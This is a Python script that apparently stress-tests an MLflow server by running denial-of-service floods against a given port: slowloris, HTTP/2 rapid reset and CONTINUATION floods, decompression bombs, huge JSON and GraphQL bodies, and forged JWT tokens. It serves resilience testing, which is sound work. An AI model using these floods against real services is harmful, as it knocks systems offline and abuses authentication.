"""The floods: each a coroutine that does its worst until it is over. Run as a program, one of them, in a process of its own.

    python floods.py NAME PORT SECONDS < TOKENS      prints what was seen, as JSON
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import random
import resource
import sys
import zlib
from collections.abc import Awaitable, Callable

from wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    Target, frame, indexed, literal, many, request,
)  # fmt: skip

GET = "/api/2.0/mlflow/registered-models/get?name=iris"
CREATE = "/api/2.0/mlflow/registered-models/create"
FILE = "/api/2.0/mlflow-artifacts/artifacts/1/r/artifacts/large"
JSON = "Content-Type: application/json"

Flood = Callable[[Target], Awaitable[None]]


async def slow_heads(target: Target) -> None:
    """Heads that come byte by byte, and large ones that never end."""

    async def each(number: int) -> None:
        async with target.connection(number % 20) as (reader, writer):
            writer.write(b"GET / HTTP/1.1\r\nX-Slow: " + (b"y" * 28_000 if number % 2 else b""))
            while not target.over:
                writer.write(b"y")
                await asyncio.sleep(0.2)
                if reader.at_eof():
                    raise ConnectionResetError

    await many(target, 2_000, each)


async def slow_bodies(target: Target) -> None:
    """Bodies of which most has come and the rest comes in drops."""

    async def each(number: int) -> None:
        async with target.connection(number % 20) as (reader, writer):
            writer.write(target.head("POST", CREATE, number, JSON, "Content-Length: 4000000"))
            writer.write(b'{"name":"' + b"y" * (100_000 if number % 2 else 100))
            answer = asyncio.create_task(target.answer(reader))
            while not target.over and not answer.done():
                writer.write(b"y")
                await asyncio.sleep(0.2)
            answer.cancel()

    await many(target, 1_200, each)


async def chunked_trickle(target: Target) -> None:
    """A body in chunks of one byte each, as fast as they go."""

    async def each(number: int) -> None:
        async with target.connection(number) as (reader, writer):
            writer.write(target.head("POST", CREATE, number, JSON, "Transfer-Encoding: chunked"))
            for _ in range(200):
                writer.write(b"1\r\ny\r\n" * 5_000)
                await writer.drain()
                if target.over:
                    return
            writer.write(b"0\r\n\r\n")
            await target.answer(reader)

    await many(target, 4, each)


async def never_read(target: Target) -> None:
    """Large answers that nobody reads, over HTTP/1."""

    async def each(number: int) -> None:
        async with target.connection(number % 20) as (reader, writer):
            reader._transport.pause_reading()
            writer.write(target.head("GET", FILE, number))
            await target.rest()

    await many(target, 800, each)


async def closed_window(target: Target) -> None:
    """The same over HTTP/2, by windows that stay closed."""

    async def each(number: int) -> None:
        async with target.connection(number) as (reader, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00"))
            for stream in range(1, 199, 2):
                block = request(FILE, target.tokens[number % len(target.tokens)])
                writer.write(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
            await reader.read(2**16)
            await target.rest()

    await many(target, 8, each)


async def idle(target: Target) -> None:
    """Thousands of connections that say nothing, or ask once and stay."""

    async def each(number: int) -> None:
        async with target.connection(number % 20) as (reader, writer):
            target.seen["open"] += 1
            if number % 2:
                writer.write(target.head("GET", GET, None))
                await target.answer(reader)
            await reader.read(1)
            raise ConnectionResetError

    await many(target, 4_000, each)


async def idle_http2(target: Target) -> None:
    """More HTTP/2 connections than there may be."""

    async def each(number: int) -> None:
        async with target.connection(number % 4) as (reader, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            while await reader.read(2**16):
                pass
            raise ConnectionResetError

    await many(target, 1_000, each)


async def rapid_reset(target: Target) -> None:
    """Requests that are reset at once."""

    async def each(number: int) -> None:
        async with target.connection(number) as (_, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            for stream in range(1, 20_001, 2):
                block = request(GET, target.tokens[0] if number % 2 else None)
                writer.write(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                writer.write(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08"))
                await writer.drain()
            await target.rest()

    await many(target, 8, each)


async def continuation(target: Target) -> None:
    """A head that never ends."""

    async def each(number: int) -> None:
        async with target.connection(number) as (_, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, request(GET, None)))
            while not target.over:
                writer.write(frame(CONTINUATION, 0, 1, literal("x", "y" * 60)) * 20)
                await writer.drain()

    await many(target, 8, each)


def frames(payload: Callable[[int], bytes], begin: bytes = b"") -> Flood:
    """The same frames again and again, answers read and forgotten."""

    async def flood(target: Target) -> None:
        async def each(number: int) -> None:
            async with target.connection(number) as (reader, writer):
                block = request(CREATE, target.tokens[number % len(target.tokens)], "POST")
                writer.write(PREFACE + frame(SETTINGS, 0, 0) + (begin and frame(HEADERS, END_HEADERS, 1, block)))
                hearing = asyncio.create_task(reader.read(-1))
                while not hearing.done():
                    writer.write(payload(number) * 200)
                    await writer.drain()
                    await asyncio.sleep(0)
                raise ConnectionResetError

        await many(target, 8, each)

    return flood


async def header_bombs(target: Target) -> None:
    """Heads that are too many, too large, or small on the wire and large in memory."""

    async def each(number: int) -> None:
        async with target.connection(number) as (reader, writer):
            if number % 3 < 2:
                size, count = ((40_000, 1), (1, 300))[number % 3]
                writer.write(target.head("GET", GET, None, *(f"X-{i}: {'y' * size}" for i in range(count))))
                await target.answer(reader)
                return
            block = request(GET, None) + indexed("x-bomb", "y" * 4_000) + b"\xbe" * 8_000
            writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
            while await reader.read(2**16):
                pass
            raise ConnectionResetError

    await many(target, 12, each)


def bodies(path: str, *made: Callable[[], bytes], headers: tuple[str, ...] = (JSON,), method: str = "POST") -> Flood:
    """Bodies that cost more to read than to send."""

    async def flood(target: Target) -> None:
        ready = [make() for make in made]

        async def each(number: int) -> None:
            async with target.connection(number) as (reader, writer):
                body = ready[number % len(ready)]
                length = f"Content-Length: {len(body)}"
                writer.write(target.head(method, path, number, *headers, length) + body)
                await target.answer(reader)

        await many(target, 6, each)

    return flood


async def many_results(target: Target) -> None:
    """Lists of as many rows as one may ask for."""

    async def each(number: int) -> None:
        async with target.connection(number) as (reader, writer):
            path = "/api/2.0/mlflow/model-versions/search?max_results=200000"
            writer.write(target.head("GET", path, number))
            await target.answer(reader)

    await many(target, 12, each)


async def token_storm(target: Target) -> None:
    """Tokens that nobody signed, each another one."""

    async def each(number: int) -> None:
        async with target.connection(number % 8) as (reader, writer):
            for _ in range(1_000):
                token = target.forged(random.getrandbits(60))
                writer.write(target.head("GET", GET, None, f"Authorization: Bearer {token}"))
                _, body = await target.answer(reader)
                if b"too many tokens" in body:
                    target.seen["not looked at"] += 1

    await many(target, 32, each)


async def strangers(target: Target) -> None:
    """Requests without a token, as fast as they go."""

    async def each(number: int) -> None:
        async with target.connection(number % 2) as (reader, writer):
            for _ in range(1_000):
                writer.write(target.head("GET", GET, None) * 10)
                for _ in range(10):
                    await target.answer(reader)

    await many(target, 64, each)


async def asking_too_often(target: Target) -> None:
    """One principal, as fast as it goes."""

    async def each(number: int) -> None:
        async with target.connection(number) as (reader, writer):
            for _ in range(1_000):
                # What is answered from memory does not count.
                writer.write(target.head("GET", GET, 0, "Cache-Control: no-cache"))
                await target.answer(reader)

    await many(target, 16, each)


def _spans(size: int) -> bytes:
    return gzip.compress(bytes(size), 9)


FLOODS: dict[str, Flood] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "chunked trickle": chunked_trickle,
    "never-read answers": never_read,
    "closed windows": closed_window,
    "idle connections": idle,
    "idle HTTP/2": idle_http2,
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "PING": frames(lambda _: frame(PING, 0, 0, bytes(8))),
    "SETTINGS": frames(lambda _: frame(SETTINGS, 0, 0)),
    "WINDOW_UPDATE": frames(lambda _: frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")),
    "small DATA": frames(lambda n: frame(DATA, 0, 1, b"y" if n % 2 else b""), begin=b"POST"),
    "header bombs": header_bombs,
    "JSON depth": bodies(CREATE, lambda: b'{"name":' * 400_000, lambda: b'{"a":' + b"[" * 4_000_000),
    "JSON numbers": bodies(
        CREATE,
        lambda: b'{"tags":[' + b"{}," * 5_000_000 + b"{}]}",
        lambda: b'{"a":[' + b"1," * 7_000_000 + b"1]}",
        lambda: b'{"a":' + b"9" * 15_000_000 + b"}",
        lambda: b'{"name":"' + b"y" * 15_000_000 + b'"}',
    ),
    "huge filters": bodies("/api/2.0/mlflow/runs/search", lambda: json.dumps(
        {"experiment_ids": ["1"], "filter": " and ".join(["params.a = 'b'"] * 200_000)}).encode()),
    "huge GraphQL": bodies(
        "/graphql",
        lambda: json.dumps({"query": "query X {" + " a" * 2_000_000 + "}"}).encode(),
        lambda: json.dumps({"query": "{a" * 500_000}).encode(),
    ),
    "gzip bombs": bodies(
        "/v1/traces",
        lambda: _spans(16_000_000),
        lambda: _spans(100_000_000),
        headers=("Content-Type: application/x-protobuf", "Content-Encoding: gzip", "X-MLflow-Experiment-Id: 1"),
    ),
    "deflate bombs": bodies(
        "/v1/traces",
        lambda: zlib.compress(bytes(100_000_000), 9),
        headers=("Content-Type: application/x-protobuf", "Content-Encoding: deflate", "X-MLflow-Experiment-Id: 1"),
    ),
    "max_results": many_results,
    "token storm": token_storm,
    "strangers": strangers,
    "asking too often": asking_too_often,
}  # fmt: skip


def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    tokens = json.load(sys.stdin)
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    message = tokens[0].split(".")

    def forged(number: int) -> str:
        payload = base64.urlsafe_b64encode(json.dumps({"user_id": str(number), "exp": 4e9}).encode())
        return f"{message[0]}.{payload.decode().rstrip('=')}.{message[2]}"

    async def run() -> Target:
        target = Target(port, seconds, tokens, forged)
        await FLOODS[name](target)
        return target

    seen = asyncio.run(run()).seen
    print(json.dumps(seen), flush=True)


if __name__ == "__main__":
    main()
